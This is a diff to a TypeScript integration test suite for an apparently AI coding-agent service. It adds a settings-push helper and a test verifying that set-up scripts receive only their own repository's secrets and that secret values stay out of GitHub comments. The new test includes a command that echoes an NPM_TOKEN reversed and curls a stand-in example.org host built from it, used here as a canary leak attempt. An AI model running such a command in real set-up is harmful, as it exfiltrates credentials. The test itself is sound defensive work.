@@ -27,21 +27,26 @@ let script = inBoth;
 
 beforeAll(async () => {
   world = await openWorld((_request, turn) => script[Math.min(turn, script.length - 1)] ?? 'Done.', {
-    seed: { more: ['Docs'], people: ['mona', 'stranger', 'bob'] },
+    seed: { more: ['Docs'], isPrivate: true, people: ['mona', 'stranger', 'bob'] },
   });
 });
 afterAll(() => world.close());
 
+/** Pushes a `.deckhand.yml` to the main branch of a repository. */
+async function pushSettings(name: string, settings: string): Promise<void> {
+  const clone = mkdtempSync(join(tmpdir(), 'deckhand-clone-'));
+  const url = `${world.github.url.replace('http://', 'http://x:person-mona@')}/mona/${name}.git`;
+  await gitAsync(clone, 'clone', '-q', url, '.');
+  writeFileSync(join(clone, '.deckhand.yml'), settings);
+  await gitAsync(clone, 'add', '-A');
+  await gitAsync(clone, 'commit', '-q', '-m', 'settings');
+  await gitAsync(clone, 'push', '-q', 'origin', 'HEAD');
+  rmSync(clone, { recursive: true, force: true });
+}
+
 test('each changed repository gets a branch and a pull request that links to the other; the task is done when both are merged', async () => {
   await until('both repositories', async () => (await world.get<unknown[]>('/repositories')).length === 2);
-  const docs = mkdtempSync(join(tmpdir(), 'deckhand-docs-'));
-  const url = `${world.github.url.replace('http://', 'http://x:person-mona@')}/mona/Docs.git`;
-  await gitAsync(docs, 'clone', '-q', url, '.');
-  writeFileSync(join(docs, '.deckhand.yml'), 'checks: grep there guide.md\n');
-  await gitAsync(docs, 'add', '-A');
-  await gitAsync(docs, 'commit', '-q', '-m', 'checks');
-  await gitAsync(docs, 'push', '-q', 'origin', 'HEAD');
-  rmSync(docs, { recursive: true, force: true });
+  await pushSettings('Docs', 'checks: grep there guide.md\n');
   await world.issue('/agent start');
   const task = await world.taskIn('in_review');
   const answers =
@@ -187,4 +192,41 @@ test('a person opens no repository in which they may not write, and merges nothi
   );
   const pulls = await world.get<{ status: string }[]>(`/tasks/${task.id}/prs`);
   expect(pulls.map(({ status }) => status)).toEqual(['open', 'open']);
+});
+
+test('set-up gets the secrets of its own repository only, and GitHub never shows its output', async () => {
+  const all = await world.get<{ id: string; name: string }[]>('/repositories');
+  const idOf = (name: string) => all.find((each) => each.name === name)?.id ?? '';
+  const assign = (...repositories: string[]) =>
+    world.service.api(world.token, 'PUT', `/projects/${world.project.id}/environment-secrets/NPM_TOKEN`, {
+      value: 'canary-of-the-docs',
+      repositories: repositories.map(idOf),
+    });
+  const reversed = 'scod-eht-fo-yranac';
+  // The network is closed, because the refused host would be a line of the log that says the secret, too.
+  const leak = 'echo "$NPM_TOKEN" | rev; curl -s "http://$(echo "$NPM_TOKEN" | rev).example.org"; exit 3';
+  await pushSettings('sample', JSON.stringify({ setup: leak, secrets: 'NPM_TOKEN', network: { setup: [] } }));
+  const tried = async (text: string | RegExp) => {
+    const number = await world.issue('/agent setup');
+    return until(`${text} as an answer`, async () =>
+      (await world.comments(number)).find(({ body }) => body.match(text)),
+    );
+  };
+  await assign('Docs');
+  const refused = await tried('Set-up or checks failed');
+  expect(refused.body).toContain('the secret NPM_TOKEN, which does not belong to this repository; an admin');
+  await assign('Docs', 'sample');
+  const hidden = await tried('exit code 3');
+  expect(hidden.body).toContain(`/projects/${world.project.id}/repositories/${idOf('sample')}`);
+  const number = await world.issue('/agent start');
+  const status = await until('the failed run', async () =>
+    (await world.comments(number)).find(({ body }) => body.includes('**Failed (setup)**')),
+  );
+  expect(status.body).toContain('ended with exit code 3');
+  const task = await world.task();
+  // Members see it on the dashboard.
+  expect(task.failure?.message).toContain(reversed);
+  for (const { body } of [refused, hidden, status]) expect(body).not.toContain(reversed);
+  for (let i = 1; i <= number; i++)
+    for (const { body } of await world.comments(i)) expect(body).not.toContain(reversed);
 });
